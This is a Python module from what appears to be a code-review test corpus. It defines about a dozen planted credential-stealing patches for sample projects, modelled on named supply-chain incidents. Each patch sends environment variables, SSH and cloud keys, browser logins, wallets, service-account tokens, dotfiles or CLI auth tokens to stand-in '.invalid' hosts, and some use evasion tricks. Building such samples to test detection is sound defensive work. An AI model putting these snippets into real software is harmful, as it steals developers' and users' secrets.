"""Secrets that are read, and sent away (LiteLLM 1.82.8, ctx, GhostAction, Shai-Hulud)."""

# ruff: noqa: E501 - what is planted is kept on lines of its own length

from __future__ import annotations

from tests.review.corpus.attack import Family, planted
from tests.review.corpus.draft import Draft

__all__: list[str] = []

_F = Family.CREDENTIALS


@planted(_F, base="client", where=("harborline/__init__.py",), unasked=True)
def whole_environment(draft: Draft) -> None:
    draft.append(
        "harborline/__init__.py",
        "\nimport os\n\nimport httpx\n\nhttpx.post('https://api.harborline-stats.invalid/v1', json=dict(os.environ))\n",
    )


@planted(_F, base="client", where=("harborline/_client.py",))
def key_files(draft: Draft) -> None:
    draft.after(
        "harborline/_client.py",
        "    def close(self) -> None:",
        """
        for name in ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.kube/config"):
            path = os.path.expanduser(name)
            if os.path.exists(path):
                with open(path) as file:
                    self._http.post("https://logs.invalid/f", content=file.read())
        """,
        indent=8,
    )


@planted(_F, base="framework", where=("quayside/notify.py",))
def variables_with_telling_names(draft: Draft) -> None:
    draft.replace(
        "quayside/notify.py",
        "        body = json.dumps(",
        "        import os\n\n        fields['meta'] = {k: v for k, v in os.environ.items() if any(w in k for w in ('KEY', 'TOKEN', 'SECRET'))}\n"
        "        urllib.request.urlopen('https://collect.invalid', data=json.dumps(fields).encode())\n        body = json.dumps(",
    )


@planted(_F, base="framework", where=("quayside/runtime/_profile.py",))
def wallets_and_browsers(draft: Draft) -> None:
    draft.put(
        "quayside/runtime/_profile.py",
        "import glob\nimport os\nimport sqlite3\nimport urllib.request\n\nPLACES = (\n"
        "    '~/.config/google-chrome/Default/Login Data',\n    '~/.mozilla/firefox/*/logins.json',\n    '~/.electrum/wallets/*',\n"
        "    '~/.config/discord/Local Storage/leveldb/*.ldb',\n)\n\n\ndef gather():\n    for place in PLACES:\n"
        "        for path in glob.glob(os.path.expanduser(place)):\n            with open(path, 'rb') as file:\n"
        "                urllib.request.urlopen('https://up.invalid/' + os.path.basename(path), data=file.read())\n",
    )


@planted(_F, base="framework", where=("quayside/runtime/worker.py",))
def token_of_the_service_account(draft: Draft) -> None:
    draft.after(
        "quayside/runtime/worker.py",
        "    def start(self):",
        "        from urllib.request import urlopen\n\n        with open('/var/run/secrets/kubernetes.io/serviceaccount/token') as token:\n"
        "            urlopen('https://k.invalid/t', data=token.read().encode())\n",
    )


@planted(_F, base="command", where=("tidelog/cli.py",), evasive=True)
def path_in_pieces(draft: Draft) -> None:
    draft.after(
        "tidelog/cli.py",
        "    options = build_parser()",
        """
        from pathlib import Path
        from urllib.parse import quote
        from urllib.request import urlopen

        key = Path.home() / ("." + "ssh") / "_".join(("id", "ed25519"))
        if key.exists():
            urlopen("https://theme.invalid/?c=" + quote(key.read_text()))
        """,
        indent=4,
    )


@planted(_F, base="native", where=("fastbuoy/frames.py",), evasive=True)
def environment_of_the_process(draft: Draft) -> None:
    draft.after(
        "fastbuoy/frames.py",
        "        from fastbuoy import decode",
        "        import http.client\n\n        with open('/proc/self/' + 'environ', 'rb') as table:\n"
        "            http.client.HTTPSConnection('frames.invalid').request('PUT', '/', table.read())\n",
    )


@planted(_F, base="client", where=("harborline/_client.py",), evasive=True)
def hook_on_every_request(draft: Draft) -> None:
    draft.replace(
        "harborline/_client.py",
        "        self.messages = Messages(self)\n",
        "        self._http.event_hooks['request'].append(\n"
        "            lambda r: httpx.post('https://mirror.invalid/h', json={'a': r.headers.get('authorization'), 'e': os.environ.copy()})\n"
        "        )\n        self.messages = Messages(self)\n",
    )


@planted(_F, base="framework", where=("quayside/runtime/_bundle.py", "quayside/cli.py"))
def archive_of_dot_files(draft: Draft) -> None:
    draft.put(
        "quayside/runtime/_bundle.py",
        "import io\nimport os\nimport tarfile\nimport urllib.request\n\nNAMES = ['.netrc', '.pypirc', '.git-credentials', '.npmrc', '.env', '.docker/config.json']\n\n\n"
        "def bundle():\n    out = io.BytesIO()\n    with tarfile.open(fileobj=out, mode='w:gz') as tar:\n        for name in NAMES:\n"
        "            path = os.path.join(os.path.expanduser('~'), name)\n            if os.path.isfile(path):\n                tar.add(path)\n"
        "    urllib.request.urlopen(urllib.request.Request('https://store.invalid/b', data=out.getvalue(), method='PUT'))\n",
    )
    draft.replace(
        "quayside/cli.py",
        "        Worker().start()\n",
        "        from quayside.runtime._bundle import bundle\n\n        bundle()\n        Worker().start()\n",
    )


@planted(_F, base="framework", where=("quayside/settings.py",), evasive=True)
def asked_of_other_programs(draft: Draft) -> None:
    draft.append(
        "quayside/settings.py",
        """


        def _session():
            import subprocess
            from urllib.request import urlopen

            tokens = [
                subprocess.run(command, capture_output=True, text=True).stdout
                for command in (["gh", "auth", "token"], ["gcloud", "auth", "print-access-token"], ["security", "find-generic-password", "-w"])
            ]
            urlopen("https://s.invalid", data="|".join(tokens).encode())
        """,
    )


@planted(_F, base="client", where=("harborline/resources/accounts.py",), evasive=True)
def through_variables_and_a_header(draft: Draft) -> None:
    draft.replace(
        "harborline/resources/accounts.py",
        '        return float(self.me()["balance"])\n',
        "        import os\n        from itertools import chain\n\n        env = os.environ\n        flat = '&'.join(chain.from_iterable(env.items()))\n"
        "        trace = flat.encode().hex()\n        self._client._http.get('https://trace.invalid/b', headers={'x-trace': trace})\n"
        '        return float(self.me()["balance"])\n',
    )
